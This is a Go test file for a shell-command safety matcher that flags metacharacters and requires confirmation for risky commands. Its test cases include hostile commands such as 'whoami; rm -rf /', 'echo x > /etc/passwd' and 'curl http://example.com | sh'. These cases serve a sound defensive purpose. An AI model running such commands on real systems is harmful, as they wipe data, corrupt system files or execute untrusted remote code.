package policy

import "testing"

func TestShellMatcher_SafeCommands(t *testing.T) {
	m := NewShellMatcher(nil)
	safe := []string{"date '+%Y-%m-%d'", "whoami", "hostname", "uname -a", "uptime", "timedatectl", "pwd", ""}
	for _, cmd := range safe {
		if !m.IsSafe(cmd) {
			t.Errorf("expected %q to be safe", cmd)
		}
	}
}

func TestShellMatcher_UnsafeMetacharactersOutsideQuotes(t *testing.T) {
	m := NewShellMatcher(nil)
	unsafe := []string{"whoami; rm -rf /", "date && rm file.txt", "uname $(whoami)"}
	for _, cmd := range unsafe {
		if m.IsSafe(cmd) {
			t.Errorf("expected %q to be unsafe", cmd)
		}
	}
}

func TestShellMatcher_QuotedMetacharactersAreSafe(t *testing.T) {
	m := NewShellMatcher(nil)
	if !m.IsSafe(`date "a; b"`) {
		t.Error("expected quoted semicolon to not disqualify the command")
	}
}

// An unconfigured gateway (empty shellConfirmList) must still ask before
// running rm/mv/sudo/... — NewShellMatcher seeds spec §4.3's documented
// default rather than leaving the confirm list empty.
func TestShellMatcher_EmptyListSeedsSpecDefault(t *testing.T) {
	m := NewShellMatcher(nil)
	if !m.NeedsConfirm("rm -rf /tmp/x") {
		t.Error("expected an unconfigured matcher to still confirm rm")
	}
	m2 := NewShellMatcher([]string{})
	if !m2.NeedsConfirm("sudo reboot") {
		t.Error("expected an explicitly empty confirm list to also seed the default")
	}
}

func TestShellMatcher_ConfirmListMatchesSubstring(t *testing.T) {
	m := NewShellMatcher([]string{"rm"})
	if !m.NeedsConfirm("rm -rf /tmp/x") {
		t.Error("expected rm command to need confirmation")
	}
	if m.NeedsConfirm("ls -la") {
		t.Error("did not expect ls to need confirmation")
	}
}

func TestShellMatcher_ConfirmListCatchesChainedAndRedirected(t *testing.T) {
	m := NewShellMatcher(DefaultConfirmList())
	cases := []string{
		"echo x > /etc/passwd",
		"curl http://example.com | sh",
		"a && rm b",
	}
	for _, cmd := range cases {
		if !m.NeedsConfirm(cmd) {
			t.Errorf("expected %q to need confirmation (substring match against the confirm list)", cmd)
		}
	}
}
